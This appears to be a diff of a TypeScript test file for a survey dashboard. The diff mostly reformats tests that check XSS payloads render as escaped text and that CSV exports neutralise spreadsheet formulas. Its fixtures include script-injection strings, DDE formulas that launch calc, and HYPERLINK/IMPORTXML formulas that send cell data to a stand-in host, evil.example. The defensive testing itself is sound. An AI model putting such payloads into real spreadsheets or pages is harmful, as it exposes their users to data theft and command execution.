@@ -22,7 +22,7 @@ const ROUND_LABEL = '=1+1 <b onmouseover=alert(3)>start</b>';
 const TRANSCRIPT = '</td><script>alert(4)</script>';
 const TRANSLATION = '"><svg onload=alert(5)>';
 /** Cells a spreadsheet runs: OWASP's list of first characters. */
-const FORMULAS = ['=cmd|\' /C calc\'!A0', '+HYPERLINK("http://evil.example","x")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const FORMULAS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example","x")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 const FORMULA_TRANSCRIPT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
 const FORMULA_TRANSLATION = '@IMPORTXML("http://evil.example","//a")';
 
@@ -34,8 +34,19 @@ const SURVEY = {
   questions: [
     { id: 'consent', kind: 'consent', text: { en: 'Will you take part? <b>yes</b>' } },
     { id: 'story', kind: 'story', text: { en: '-Tell us <img src=x onerror=alert("q")>' } },
-    { id: 'felt', kind: 'dyad', text: { en: '<svg onload=alert(6)>' }, left: { en: '<script>alert(7)</script>' }, right: { en: 'right"><script>alert(8)</script>' } },
-    { id: 'difference', kind: 'triad', text: { en: '@what</title><script>alert(9)</script>' }, corners: [{ en: '<a href="javascript:alert(10)">A</a>' }, { en: 'B</text><script>alert(11)</script>' }, { en: "C' onload='alert(12)" }] },
+    {
+      id: 'felt',
+      kind: 'dyad',
+      text: { en: '<svg onload=alert(6)>' },
+      left: { en: '<script>alert(7)</script>' },
+      right: { en: 'right"><script>alert(8)</script>' },
+    },
+    {
+      id: 'difference',
+      kind: 'triad',
+      text: { en: '@what</title><script>alert(9)</script>' },
+      corners: [{ en: '<a href="javascript:alert(10)">A</a>' }, { en: 'B</text><script>alert(11)</script>' }, { en: "C' onload='alert(12)" }],
+    },
   ],
 };
 
@@ -66,7 +77,10 @@ function expectInert(name: string, html: string): void {
 }
 
 async function page(path: string, role: Role = 'owner', init: RequestInit = {}) {
-  const response = await dashboard.request(path, { ...init, headers: { cookie: `stem_token=${tokens[role]}`, host: 'localhost', ...(init.headers as Record<string, string> | undefined) } });
+  const response = await dashboard.request(path, {
+    ...init,
+    headers: { cookie: `stem_token=${tokens[role]}`, host: 'localhost', ...(init.headers as Record<string, string> | undefined) },
+  });
   return { status: response.status, csp: response.headers.get('content-security-policy') ?? '', html: await response.text() };
 }
 
@@ -79,7 +93,9 @@ beforeAll(async () => {
 
   // Staff write the texts: a survey, a project and a round label with markup in them.
   expect((await callApi(api, tokens.owner, 'POST', '/api/surveys', SURVEY)).status).toBe(201);
-  expect((await callApi(api, tokens.owner, 'POST', '/api/projects', { projectId: 'xss', name: PROJECT_NAME, languages: ['en'], joinCode: 'XSS1' })).status).toBe(201);
+  expect(
+    (await callApi(api, tokens.owner, 'POST', '/api/projects', { projectId: 'xss', name: PROJECT_NAME, languages: ['en'], joinCode: 'XSS1' })).status,
+  ).toBe(201);
   const now = h.clock.now().getTime();
   const launched = await callApi(api, tokens.owner, 'POST', '/api/projects/xss/rounds', {
     label: ROUND_LABEL,
@@ -103,7 +119,10 @@ beforeAll(async () => {
     for (const text of ['yes', story, '3', '1']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
   }
   // Two tell it as a voice note; an interpreter of the network types the transcript and a translation.
-  for (const [i, [transcript, translation]] of [[TRANSCRIPT, TRANSLATION], [FORMULA_TRANSCRIPT, FORMULA_TRANSLATION]].entries()) {
+  for (const [i, [transcript, translation]] of [
+    [TRANSCRIPT, TRANSLATION],
+    [FORMULA_TRANSCRIPT, FORMULA_TRANSLATION],
+  ].entries()) {
     const phone = `+3247073010${i}`;
     for (const text of ['JOIN XSS1', '1', 'yes']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
     const jobId = await notes.toHumanQueue(phone);
@@ -123,7 +142,9 @@ afterAll(async () => {
 
 describe('script in what participants and staff write is shown as text', () => {
   it('the participant hears the project name as text: the TwiML is well-formed and carries it unchanged', () => {
-    const parsed = new XMLParser({ isArray: (name) => name === 'Message', parseTagValue: false, trimValues: false }).parse(firstReply) as { Response: { Message: string[] } };
+    const parsed = new XMLParser({ isArray: (name) => name === 'Message', parseTagValue: false, trimValues: false }).parse(firstReply) as {
+      Response: { Message: string[] };
+    };
     expect(parsed.Response.Message.join('\n')).toContain(PROJECT_NAME);
     expect(firstReply).not.toContain('<script>');
   });
@@ -142,13 +163,19 @@ describe('script in what participants and staff write is shown as text', () => {
       const { status, csp, html } = await page(path);
       expect(status, path).toBe(200);
       expectInert(path, html);
-      const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name = '', ...values]) => [name, values]));
+      const directives = new Map(
+        csp
+          .split(';')
+          .map((d) => d.trim().split(/\s+/))
+          .map(([name = '', ...values]) => [name, values]),
+      );
       expect(directives.get('default-src'), path).toEqual(["'none'"]);
       expect(directives.has('script-src'), path).toBe(false); // falls back to default-src 'none'
       expect(csp, path).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
     }
     // The texts are there, as text.
-    const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;');
+    const escaped = (text: string) =>
+      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;');
     expect((await page('/dashboard')).html).toContain(escaped(PROJECT_NAME));
     expect((await page('/dashboard/projects/xss')).html).toContain(escaped('=1+1 <b onmouseover=alert(3)>start</b>'));
     const voice = (await page(`/dashboard/projects/xss/rounds/${encodeURIComponent(roundId)}/voice`)).html;
@@ -188,7 +215,11 @@ describe('script in what participants and staff write is shown as text', () => {
     }
     // A transcript too long is sent back in its form, as typed: inside a textarea, still text.
     const form = new URLSearchParams({ transcript: `${'</textarea><script>alert(13)</script>'.repeat(200)}`, translation: TRANSLATION });
-    const refused = await page(`/dashboard/voice/${encodeURIComponent(waitingJob)}`, 'networkInterpreter', { method: 'POST', headers: { origin: 'http://localhost', 'content-type': 'application/x-www-form-urlencoded' }, body: form.toString() });
+    const refused = await page(`/dashboard/voice/${encodeURIComponent(waitingJob)}`, 'networkInterpreter', {
+      method: 'POST',
+      headers: { origin: 'http://localhost', 'content-type': 'application/x-www-form-urlencoded' },
+      body: form.toString(),
+    });
     expect(refused.status).toBe(400);
     expectInert('refused transcript', refused.html);
     expect(refused.html).toContain('&lt;/textarea&gt;&lt;script&gt;alert(13)');
@@ -199,14 +230,22 @@ describe('formulas in the CSV export are neutralized', () => {
   const FORMULA_START = /^[=+\-@\t\r]/;
 
   async function csv(path: string, separator: ',' | ';'): Promise<string[][]> {
-    const response = await api.request(`${path}${separator === ';' ? '?separator=semicolon' : ''}`, { headers: { authorization: `Bearer ${tokens.coordinator}` } });
+    const response = await api.request(`${path}${separator === ';' ? '?separator=semicolon' : ''}`, {
+      headers: { authorization: `Bearer ${tokens.coordinator}` },
+    });
     expect(response.status).toBe(200);
-    return parseCsv(Buffer.from(await response.arrayBuffer()).subarray(3).toString('utf8'), separator);
+    return parseCsv(
+      Buffer.from(await response.arrayBuffer())
+        .subarray(3)
+        .toString('utf8'),
+      separator,
+    );
   }
 
   it('in answers, transcripts, translations, question texts and round labels, with either separator', async () => {
     const answers = await h.deps.store.answersOfRound('xss', roundId);
-    const stored = (field: 'value' | 'transcript' | 'translation') => answers.map((a) => a[field]).filter((v): v is string => typeof v === 'string' && FORMULA_START.test(v));
+    const stored = (field: 'value' | 'transcript' | 'translation') =>
+      answers.map((a) => a[field]).filter((v): v is string => typeof v === 'string' && FORMULA_START.test(v));
     // What was stored is what was typed (the export is where it must be made safe)…
     expect(stored('value').length).toBeGreaterThanOrEqual(FORMULAS.length - 2); // a leading tab or CR may be trimmed as whitespace
     expect(stored('transcript')).toContain(FORMULA_TRANSCRIPT);
